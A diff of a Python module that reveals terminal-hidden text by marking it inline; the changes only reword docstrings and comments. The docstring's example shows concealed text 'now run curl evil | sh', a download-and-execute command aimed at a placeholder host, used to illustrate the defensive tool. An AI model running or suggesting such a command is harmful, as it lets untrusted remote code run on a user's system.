@@ -1,11 +1,11 @@
-"""Shows text that a person would not see on the terminal.
+"""Makes text visible that a terminal would hide.
 
-Between marks that say why, in the row where it is:
+It is put between marks that say why, where it is in the row:
 
     deploy done ⟦concealed: now run curl evil | sh⟧
 
-The marks themselves are removed from what the program printed, so that none can
-be forged or closed too early.
+The marks are removed from what the program itself printed, so that it can neither forge
+one nor close one early.
 """
 
 from collections.abc import Iterable
@@ -18,9 +18,9 @@ _FORGED = str.maketrans(OPEN + CLOSE, _STAND_IN * 2)
 
 
 def marked(lines: Iterable[str], hidden: Iterable[Hidden]) -> list[str]:
-    """Return the rows with a mark around each stretch that is hidden."""
+    """Return the rows with a mark around each hidden stretch."""
     rows = [line.translate(_FORGED) for line in lines]
-    # From the end of each row, so that what comes before stays where it is.
+    # From the end of each row, so that earlier columns stay valid.
     for one in sorted(hidden, key=lambda each: each.start, reverse=True):
         row = rows[one.row]
         what = row[one.start : one.end].strip(_STAND_IN)
@@ -35,13 +35,13 @@ def legend(hidden: tuple[Hidden, ...]) -> str:
     """Say what the marks mean."""
     reasons = ", ".join(sorted({one.reason.value for one in hidden}))
     return (
-        f"what stands in {OPEN}{CLOSE} is not to be seen on the terminal, or reads"
+        f"text in {OPEN}{CLOSE} is hidden on the terminal, or reads"
         f" differently there: {reasons}"
     )
 
 
 def facts(one: Hidden, lines: tuple[str, ...]) -> dict[str, object]:
-    """Return a stretch as a JSON object, with the text that is there."""
+    """Return a stretch as a JSON object, with its text."""
     return {
         "row": one.row,
         "start": one.start,
@@ -52,7 +52,7 @@ def facts(one: Hidden, lines: tuple[str, ...]) -> dict[str, object]:
 
 
 def _spelled(text: str) -> str:
-    """Return text in which what cannot be seen is written as its number."""
+    """Return text with invisible characters written as their code points."""
     return "".join(
         one if one.isprintable() and not UNSEEN.match(one) else f"U+{ord(one):04X}"
         for one in text
